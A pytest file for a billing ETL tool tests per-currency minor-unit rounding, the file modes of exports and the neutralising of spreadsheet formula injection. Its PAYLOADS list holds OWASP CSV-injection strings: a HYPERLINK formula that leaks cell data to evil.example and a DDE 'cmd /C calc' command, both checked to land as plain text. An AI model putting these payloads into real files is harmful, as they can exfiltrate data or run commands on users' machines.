"""Exports: every amount in its own currency's minor unit, carrier text never a formula, files not world-readable.

The writers are exercised for real (openpyxl reads the XLSX back, the csv module and pyarrow read the CSV and
Parquet back, ``os.stat`` reads the mode); the end-to-end cases run ``etl run`` against the session influxd with
three carriers billing in KRW (0 decimals), BHD (3) and USD (2), and carrier invoices carrying formula payloads.
"""

from __future__ import annotations

import copy
import csv
import datetime as dt
import os
import re
import stat
import zipfile
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
import yaml
from billing_support import CARRIERS, INVENTORY, OCT, write_config_tree

from billing_etl.exports import Column, ExportError, Table, write_all, write_csv
from billing_etl.labels import machine_names
from billing_etl.run import PeriodReport, run_period
from linewatch.errors import ConfigError
from linewatch.settings import load_settings

D = Decimal
STAMP = dt.datetime(2026, 10, 1)

# OWASP CSV injection payloads; each must reach the spreadsheet as plain text.
PAYLOADS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "dde-cmd": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}

# What an invoice file can carry into the store (the importer trims surrounding whitespace, tab and CR).
IMPORTED = [p for p in PAYLOADS.values() if p == p.strip()]


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def _csv_rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as zf:
        return "".join(zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/"))


def _money_table(rows: list[tuple[Any, ...]]) -> Table:
    return Table(
        "Charges",
        [Column("circuit_id"), Column("amount", "money"), Column("currency")],
        rows=list(rows),
        currency_column="currency",
    )


# -- formula injection, on the writers ------------------------------------------------------------------------


@pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(PAYLOADS))
def test_formula_injection_payload_is_text_in_xlsx_and_csv(payload: str, tmp_path: Path) -> None:
    """Carrier text starting with = + - @ tab or CR is a string cell in XLSX and quote-prefixed in CSV."""
    from openpyxl import load_workbook

    table = _money_table([(payload, D("-12.50"), "USD")])
    write_all([table], tmp_path, stem="t", stamp=STAMP, formats=("csv", "xlsx"))

    cell = load_workbook(tmp_path / "t.xlsx")["Charges"]["A2"]
    # XML turns a raw CR into LF on reading: the value is still the payload's text, never a formula.
    assert cell.value in (payload, payload.replace("\r", "\n"))
    assert cell.data_type == "s" and cell.quotePrefix
    assert "<f>" not in _sheet_xml(tmp_path / "t.xlsx")

    _header, row = _csv_rows(tmp_path / "t-charges.csv")
    assert row == ["'" + payload, "-12.50", "USD"]  # the amount's minus sign is a number, left alone


def test_plain_text_is_written_unchanged(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    table = _money_table([("C-1 =not a formula", D(1), "EUR"), ("'quoted", D(2), "EUR")])
    write_all([table], tmp_path, stem="t", stamp=STAMP, formats=("csv", "xlsx"))
    assert [r[0] for r in _csv_rows(tmp_path / "t-charges.csv")[1:]] == ["C-1 =not a formula", "'quoted"]
    ws = load_workbook(tmp_path / "t.xlsx")["Charges"]
    assert [(ws["A2"].value, ws["A2"].quotePrefix), (ws["A3"].value, ws["A3"].quotePrefix)] == [
        ("C-1 =not a formula", False),
        ("'quoted", False),
    ]


# -- currencies, on the writers -------------------------------------------------------------------------------

MINOR_UNIT_CASES = [
    # currency, amount, CSV text, XLSX number format
    ("KRW", "1234.56", "1235", '#,##0 "KRW";-#,##0 "KRW"'),
    ("JPY", "99.5", "100", '#,##0 "JPY";-#,##0 "JPY"'),
    ("USD", "12.345", "12.35", '#,##0.00 "USD";-#,##0.00 "USD"'),
    ("EUR", "-0.004", "0.00", '#,##0.00 "EUR";-#,##0.00 "EUR"'),
    ("BHD", "1.2345", "1.235", '#,##0.000 "BHD";-#,##0.000 "BHD"'),
]


@pytest.mark.parametrize(
    ("currency", "amount", "text", "number_format"), MINOR_UNIT_CASES, ids=[c[0] for c in MINOR_UNIT_CASES]
)
def test_amounts_round_to_the_iso4217_minor_unit(
    currency: str, amount: str, text: str, number_format: str, tmp_path: Path
) -> None:
    """KRW and JPY 0 decimals, USD and EUR 2, BHD 3 (ISO 4217), half up, in CSV, XLSX and Parquet."""
    import pyarrow.parquet as pq
    from openpyxl import load_workbook

    write_all([_money_table([("C-1", D(amount), currency)])], tmp_path, stem="t", stamp=STAMP)
    assert _csv_rows(tmp_path / "t-charges.csv")[1] == ["C-1", text, currency]
    cell = load_workbook(tmp_path / "t.xlsx")["Charges"]["B2"]
    assert (cell.value, cell.data_type, cell.number_format) == (
        pytest.approx(float(text)),
        "n",
        number_format,
    )
    parquet = pq.read_table(tmp_path / "t-charges.parquet").to_pylist()
    assert parquet == [{"circuit_id": "C-1", "amount": D(text), "currency": currency}]


@pytest.mark.parametrize(
    ("table", "message"),
    [
        pytest.param(
            lambda: Table("Findings", [Column("amount_at_stake", "money")]),
            "table Findings: money columns need a currency column",
            id="no-currency-column",
        ),
        pytest.param(
            lambda: _money_table([("C-1", D(1), "USD"), ("C-2", D(5), "")]),
            "table Charges, row 2, column amount: amount 5 has no currency",
            id="blank-currency",
        ),
        pytest.param(
            lambda: _money_table([("C-1", D(1), "ZZZ")]),
            "table Charges, row 1, column amount: 'ZZZ' is not an ISO 4217 currency code",
            id="not-iso4217",
        ),
        pytest.param(
            lambda: _money_table([("C-1", D(1), "XAU")]),
            "XAU has no minor unit in ISO 4217",
            id="no-minor-unit",
        ),
    ],
)
def test_amount_without_a_known_currency_is_an_error_not_eur(
    table: Any, message: str, tmp_path: Path
) -> None:
    with pytest.raises(ExportError, match=re.escape(message)):
        write_all([table()], tmp_path, stem="t", stamp=STAMP)
    assert not list(tmp_path.iterdir())  # nothing half-written


def test_a_row_without_an_amount_needs_no_currency(tmp_path: Path) -> None:
    write_csv(_money_table([("C-1", None, "")]), tmp_path / "t.csv")
    assert _csv_rows(tmp_path / "t.csv")[1] == ["C-1", "", ""]


# -- permissions, on the writers ------------------------------------------------------------------------------


@pytest.mark.parametrize("mode", [0o640, 0o600, 0o440], ids=["default-0640", "0600", "0440"])
def test_exports_are_not_world_readable(mode: int, tmp_path: Path) -> None:
    """Each file gets exactly the export mode, whatever the umask, also when it replaces a 0644 file."""
    stale = tmp_path / "t-charges.csv"
    stale.write_text("old\n")
    stale.chmod(0o644)
    old_umask = os.umask(0)  # the loosest umask: must not widen anything
    try:
        written = write_all(
            [_money_table([("C-1", D(1), "EUR")])],
            tmp_path,
            stem="t",
            stamp=STAMP,
            **({} if mode == 0o640 else {"mode": mode}),
        )
    finally:
        os.umask(old_umask)
    assert {p.name: _mode(p) for p in written} == {
        "t.xlsx": mode,
        "t-charges.csv": mode,
        "t-charges.parquet": mode,
    }
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(p.name for p in written)  # no temp files left


@pytest.mark.parametrize(
    ("yaml_value", "env", "expected"),
    [
        pytest.param(None, None, 0o640, id="default"),
        pytest.param("0600", None, 0o600, id="yaml-octal"),
        pytest.param("'0o640'", None, 0o640, id="yaml-string"),
        pytest.param(None, "0600", 0o600, id="environment"),
        pytest.param("640", None, "file mode 1200 (decimal 640)", id="decimal-is-refused"),
        pytest.param("0644", None, 0o644, id="world-readable-if-configured"),
        pytest.param("0646", None, "not writable by others", id="world-writable"),
        pytest.param("0755", None, "no execute", id="execute-bit"),
        pytest.param("rw-r-----", None, "is not an octal file mode", id="not-octal"),
    ],
)
def test_export_mode_is_configurable(
    yaml_value: str | None,
    env: str | None,
    expected: int | str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    cfg = write_config_tree(tmp_path / "cfg")
    if yaml_value is not None:
        with cfg.open("a") as fh:
            fh.write(f"export_mode: {yaml_value}\n")
    if env is not None:
        monkeypatch.setenv("LINEWATCH_EXPORT_MODE", env)
    if isinstance(expected, int):
        assert load_settings(cfg).export_mode == expected
    else:
        with pytest.raises(ConfigError) as exc:
            load_settings(cfg)
        assert "export_mode" in str(exc.value) and expected in str(exc.value)


# -- end to end: etl run with KRW, BHD and USD carriers -------------------------------------------------------

HEADER = [
    "invoice",
    "date",
    "due",
    "circuit",
    "type",
    "from",
    "to",
    "qty",
    "price",
    "amount",
    "text",
    "total",
]
WHOLE = ("2026-10-31", "2026-11-30")
CARRIER_CURRENCY = {"Hanil": "KRW", "Gulf": "BHD", "Yankee": "USD"}


def _line(line_id: str, carrier: str, circuit: str, install: str = "2020-01-01") -> dict[str, Any]:
    line = copy.deepcopy(INVENTORY["lines"][0])
    line.update(id=line_id, carrier=carrier, circuit_id=circuit, install_date=install, interface=line_id)
    return line


def _write_invoice(path: Path, rows: list[list[str]]) -> None:
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh, lineterminator="\n")
        writer.writerow(HEADER)
        writer.writerows(rows)


@pytest.fixture
def multi_currency(tmp_path: Path, influx_db: tuple[str, str]) -> Iterator[Path]:
    url, db = influx_db
    yield write_multi_currency_world(tmp_path / "cfg", influx_url=url, database=db)


def write_multi_currency_world(root: Path, *, influx_url: str, database: str) -> Path:
    """Hanil bills in KRW, Gulf in BHD, Yankee in USD; Yankee's invoices carry formula payloads. Returns the
    settings file."""
    cfg = write_config_tree(root, influx_url=influx_url, database=database)
    inventory = copy.deepcopy(INVENTORY)
    inventory["lines"] = [
        _line("L-KR", "Hanil", "K-1"),
        _line("L-KR2", "Hanil", "K-2", install="2026-10-11"),
        _line("L-BH", "Gulf", "B-1"),
        _line("L-US", "Yankee", "U-1"),
    ]
    carriers: dict[str, Any] = {"invoice_dir": "invoices", "carriers": []}
    for name, currency in CARRIER_CURRENCY.items():
        layout = copy.deepcopy(CARRIERS["carriers"][0]["layout"])
        layout["currency"] = currency
        carriers["carriers"].append(
            {"name": name, "files": [f"{name.lower()}-*.csv"], "layout": layout, "currency": currency}
        )
    contracts = {
        "contracts": [
            {
                "line": "L-KR",
                "carrier": "Hanil",
                "currency": "KRW",
                "mrc": 1234567,
                "billing": {"model": "flat"},
            },
            {
                "line": "L-KR2",
                "carrier": "Hanil",
                "currency": "KRW",
                "mrc": 1000000,
                "billing": {"model": "flat"},
            },
            {
                "line": "L-BH",
                "carrier": "Gulf",
                "currency": "BHD",
                "mrc": "123.456",
                "billing": {"model": "flat"},
            },
            {
                "line": "L-US",
                "carrier": "Yankee",
                "currency": "USD",
                "mrc": 100,
                "billing": {"model": "flat"},
            },
        ]
    }
    (root / "lines.yaml").write_text(yaml.safe_dump(inventory, sort_keys=False))
    (root / "carriers.yaml").write_text(yaml.safe_dump(carriers, sort_keys=False))
    (root / "contracts.yaml").write_text(yaml.safe_dump(contracts, sort_keys=False))
    invoices = root / "invoices"
    # Lines add up to 1,934,567 KRW, the invoice states 2,000,000: an invoice-level finding, no line.
    # K-2 from its install: 21/31 of 1,000,000 = 677,419.35... expected, 700,000 billed.
    _write_invoice(
        invoices / "hanil-2026-10.csv",
        [
            ["KR-1", *WHOLE, "K-1", "MRC", "2026-10-01", "2026-10-31", "", "", "1234567", "flat", "2000000"],
            [
                "KR-1",
                *WHOLE,
                "K-2",
                "MRC",
                "2026-10-11",
                "2026-10-31",
                "",
                "",
                "700000",
                "install",
                "2000000",
            ],
        ],
    )
    _write_invoice(
        invoices / "gulf-2026-10.csv",
        [
            ["GB-1", *WHOLE, "B-1", "MRC", "2026-10-01", "2026-10-31", "", "", "123.456", "flat", "123.581"],
            ["GB-1", *WHOLE, "", "LATE", "", "", "", "", "0.125", "late", "123.581"],
        ],
    )
    yankee = [["US-1", *WHOLE, "U-1", "MRC", "2026-10-01", "2026-10-31", "", "", "100.00", "flat", "100.00"]]
    for payload in IMPORTED:  # invoice number, circuit id and description all carrier text
        yankee.append(
            [payload, *WHOLE, payload, "MRC", "2026-10-01", "2026-10-31", "", "", "10.00", payload, "10.00"]
        )
    _write_invoice(invoices / "yankee-2026-10.csv", yankee)
    return cfg


def _run(cfg: Path, out: Path) -> PeriodReport:
    return run_period(load_settings(cfg), OCT, out_dir=out, progress_enabled=False)


@pytest.mark.slow
def test_finding_without_a_line_takes_its_invoice_currency_not_eur(
    multi_currency: Path, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    report = _run(multi_currency, tmp_path / "out")
    [arithmetic] = [f for f in report.findings if f.rule.value == "invoice_arithmetic"]
    assert (arithmetic.line, arithmetic.invoice_number, arithmetic.currency) == ("", "KR-1", "KRW")
    assert arithmetic.amount_at_stake == D("65433")
    assert "2,000,000 KRW" in arithmetic.reason and "1,934,567 KRW" in arithmetic.reason
    assert {f.currency for f in report.findings if f.carrier == "Gulf"} == {"BHD"}  # the late fee, no circuit

    ws = load_workbook(tmp_path / "out" / "billing-2026-10.xlsx")["Findings"]
    header = machine_names("Findings", [c.value for c in ws[1]])
    for cells in ws.iter_rows(min_row=2):
        row = dict(zip(header, cells, strict=True))
        currency = row["currency"].value
        assert currency == CARRIER_CURRENCY[row["carrier"].value]
        assert f'"{currency}"' in row["amount_at_stake"].number_format
    csv_rows = _csv_rows(tmp_path / "out" / "billing-2026-10-findings.csv")
    by_rule = {(r[1], r[3]): r for r in csv_rows[1:]}  # r[0]: finding_id
    assert by_rule[("invoice_arithmetic", "KR-1")][7:9] == ["65433", "KRW"]


@pytest.mark.slow
def test_krw_amounts_carry_no_cents(multi_currency: Path, tmp_path: Path) -> None:
    """A prorated KRW charge is 22,580.65 "off" in cents; in won it is 22,581, everywhere."""
    import pyarrow.parquet as pq
    from openpyxl import load_workbook

    out = tmp_path / "out"
    report = _run(multi_currency, out)
    [proration] = [f for f in report.findings if f.rule.value == "proration_mismatch"]
    assert (proration.line, proration.amount_at_stake, proration.currency) == ("L-KR2", D("22581"), "KRW")
    assert "700,000 KRW" in proration.reason and "677,419 KRW" in proration.reason

    wb = load_workbook(out / "billing-2026-10.xlsx")
    for ws in wb.worksheets:
        for cell in (c for r in ws.iter_rows(min_row=2) for c in r):
            if '"KRW"' in cell.number_format and cell.value is not None:
                assert float(cell.value).is_integer(), (ws.title, cell.coordinate, cell.value)
                assert cell.number_format == '#,##0 "KRW";-#,##0 "KRW"'
            if '"BHD"' in cell.number_format:
                assert cell.number_format == '#,##0.000 "BHD";-#,##0.000 "BHD"'
    for name in ("lines", "findings", "summary", "payments_due", "departments"):
        rows = _csv_rows(out / f"billing-2026-10-{name}.csv")
        header = machine_names(name.replace("_", " ").capitalize(), rows[0])
        money = [
            i
            for i, h in enumerate(header)
            if h
            in (
                "billed",
                "allocated",
                "total",
                "expected",
                "at_stake",
                "amount_at_stake",
                "value",
                "amount",
                "stated_total",
                "disputed",
            )
        ]
        currency_at = header.index("currency")
        for r in rows[1:]:
            places = {"KRW": 0, "BHD": 3, "USD": 2}.get(r[currency_at])
            for i in money:
                if r[i] and places is not None:
                    assert len(r[i].partition(".")[2]) == places, (name, header[i], r)
    lines = {r["line"]: r for r in pq.read_table(out / "billing-2026-10-lines.parquet").to_pylist()}
    assert (lines["L-KR2"]["expected"], lines["L-KR2"]["currency"]) == (D("677419"), "KRW")
    assert (lines["L-BH"]["billed"], lines["L-BH"]["currency"]) == (D("123.456"), "BHD")


@pytest.mark.slow
def test_expected_amount_of_a_bhd_contract_keeps_its_fils(multi_currency: Path, tmp_path: Path) -> None:
    """The expected MRC was rounded to cents before the currency: 123.456 BHD came out as 123.460."""
    from openpyxl import load_workbook

    _run(multi_currency, tmp_path / "out")
    ws = load_workbook(tmp_path / "out" / "billing-2026-10.xlsx")["Lines"]
    header = machine_names("Lines", [c.value for c in ws[1]])
    lines = {r[header.index("line")].value: r for r in ws.iter_rows(min_row=2)}
    expected = lines["L-BH"][header.index("expected")]
    assert Decimal(str(expected.value)) == D("123.456")
    assert expected.number_format == '#,##0.000 "BHD";-#,##0.000 "BHD"'


@pytest.mark.slow
def test_totals_are_per_currency_never_summed_across(multi_currency: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    report = _run(multi_currency, tmp_path / "out")
    totals = report.totals()
    assert sorted(totals) == ["BHD", "KRW", "USD"]  # no EUR: nobody bills in it
    assert totals["KRW"]["billed"] == D("1934567")
    assert totals["BHD"]["billed"] == D("123.456")
    assert totals["BHD"]["at_stake"] == D("0.125")  # the late fee, in fils, not rounded to 0.13
    assert totals["KRW"]["at_stake"] == D("65433") + D("22581")
    ws = load_workbook(tmp_path / "out" / "billing-2026-10.xlsx")["Summary"]
    summary = {(r[0].value, r[2].value): r[1] for r in ws.iter_rows(min_row=2)}
    assert {r[3].value for r in ws.iter_rows(min_row=2)} == {"2026-10"}  # the period has a column of its own
    assert {currency for _, currency in summary} == {"BHD", "KRW", "USD"}
    assert summary[("billed (line charges)", "BHD")].value == pytest.approx(123.456)
    assert summary[("at stake (over-billed)", "BHD")].number_format == '#,##0.000 "BHD";-#,##0.000 "BHD"'
    assert summary[("at stake (over-billed)", "KRW")].value == 65433 + 22581


@pytest.mark.slow
def test_carrier_formula_payloads_from_an_invoice_land_as_text(multi_currency: Path, tmp_path: Path) -> None:
    """Invoice numbers, circuit ids and descriptions from a carrier file: never a live formula anywhere."""
    from openpyxl import load_workbook

    out = tmp_path / "out"
    _run(multi_currency, out)
    imported = set(IMPORTED)
    wb = load_workbook(out / "billing-2026-10.xlsx")
    seen: dict[str, set[str]] = {}
    for ws in wb.worksheets:
        for cell in (c for r in ws.iter_rows() for c in r):
            assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
            if cell.value in imported:
                assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
                seen.setdefault(ws.title, set()).add(cell.value)
    assert seen["Findings"] == imported and seen["Lines"] == imported and seen["Payments due"] == imported
    assert "<f>" not in _sheet_xml(out / "billing-2026-10.xlsx")
    for path in sorted(out.glob("*.csv")):
        for r in _csv_rows(path)[1:]:
            for value in r:
                assert not value.startswith(("=", "+", "@", "\t", "\r")), (path.name, r)
                assert not value.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", value), (path.name, r)
    findings = _csv_rows(out / "billing-2026-10-findings.csv")
    assert {r[3] for r in findings[1:] if r[1] == "ghost_circuit"} == {"'" + p for p in imported}


@pytest.mark.slow
def test_etl_run_exports_are_written_with_the_export_mode(multi_currency: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "billing-2026-10.xlsx").write_bytes(b"stale")
    (out / "billing-2026-10.xlsx").chmod(0o644)
    report = _run(multi_currency, out)
    assert {p.name: _mode(p) for p in report.exports} == {p.name: 0o640 for p in report.exports}
    assert "billing-2026-10-quarantine.csv" in {p.name for p in report.exports}
    with multi_currency.open("a") as fh:
        fh.write("export_mode: 0600\n")
    report = _run(multi_currency, out)
    assert {_mode(p) for p in out.iterdir()} == {0o600}
    assert len(list(out.iterdir())) == len(report.exports)


def test_summary_text_shows_each_currency_in_its_minor_unit() -> None:
    """Pure formatting (no I/O): the one-screen summary never prints won with cents."""
    from billing_etl.run import amount_text

    assert [amount_text(D(v), c) for v, c in (("1234567.4", "KRW"), ("1.2345", "BHD"), ("-0.5", "JPY"))] == [
        "1,234,567",
        "1.235",
        "-1",
    ]


def test_etl_import_quarantine_is_written_like_an_export(tmp_path: Path) -> None:
    """``etl import`` writes its quarantine CSV through the same writer: export mode, formula text neutralised."""
    from linewatch.cli import main as cli_main

    cfg = write_multi_currency_world(tmp_path / "cfg", influx_url="http://127.0.0.1:9", database="lw")
    bad = ["=cmd|' /C calc'!A0", *WHOLE, "U-1", "MRC", "2026-10-01", "2026-10-31", "", "", "abc", "", ""]
    _write_invoice(tmp_path / "cfg" / "invoices" / "yankee-2026-11.csv", [bad])
    (tmp_path / "cfg" / "var").mkdir()
    stale = tmp_path / "cfg" / "var" / "billing-quarantine.csv"
    stale.write_text("old\n")
    stale.chmod(0o644)
    cli_main(["-c", str(cfg), "etl", "import"])
    assert _mode(stale) == 0o640
    [_header, row] = _csv_rows(stale)
    assert (
        row[0] == "yankee-2026-11.csv" and row[2] == "amount" and not row[3].startswith(("=", "+", "-", "@"))
    )


@pytest.mark.parametrize(
    ("file", "edit", "message"),
    [
        pytest.param(
            "carriers.yaml",
            lambda d: d["carriers"][0].update(currency="ZZZ"),
            "carriers[0].currency: 'ZZZ' is not an ISO 4217 currency code",
            id="carrier-not-iso4217",
        ),
        pytest.param(
            "carriers.yaml",
            lambda d: d["carriers"][0]["layout"].update(currency="KRQ"),
            "carriers[0].layout.currency: 'KRQ' is not an ISO 4217 currency code",
            id="layout-typo",
        ),
        pytest.param(
            "contracts.yaml",
            lambda d: d["contracts"][0].update(currency="XAU"),
            "contracts[0].currency: XAU has no minor unit in ISO 4217",
            id="contract-gold",
        ),
    ],
)
def test_unknown_currency_code_is_a_config_error_naming_the_line(
    file: str, edit: Any, message: str, tmp_path: Path
) -> None:
    from billing_etl.config import check_config

    cfg = write_multi_currency_world(tmp_path / "cfg", influx_url="http://127.0.0.1:9", database="lw")
    path = tmp_path / "cfg" / file
    data = yaml.safe_load(path.read_text())
    edit(data)
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    problems = [str(p) for p in check_config(load_settings(cfg))]
    assert any(file in p and re.search(r":\d+:", p) and message in p for p in problems), problems


@pytest.mark.parametrize(
    ("currency", "error"),
    [
        pytest.param("krw", None, id="lower-case-accepted"),
        pytest.param("ZZZ", "'ZZZ' is not an ISO 4217 currency code", id="not-iso4217"),
        pytest.param("XAU", "XAU has no minor unit in ISO 4217", id="gold"),
    ],
)
def test_invoice_row_in_a_non_iso4217_currency_is_refused(currency: str, error: str | None) -> None:
    """Pure validation (the importer quarantines the row with this message)."""
    from pydantic import ValidationError

    from billing_etl.model import InvoiceLine

    raw = {"carrier": "Hanil", "invoice_number": "KR-1", "invoice_date": "2026-10-31", "charge_type": "tax"}
    if error is None:
        assert InvoiceLine.model_validate({**raw, "amount": "1", "currency": currency}).currency == "KRW"
        return
    with pytest.raises(ValidationError, match=re.escape(error)):
        InvoiceLine.model_validate({**raw, "amount": "1", "currency": currency})
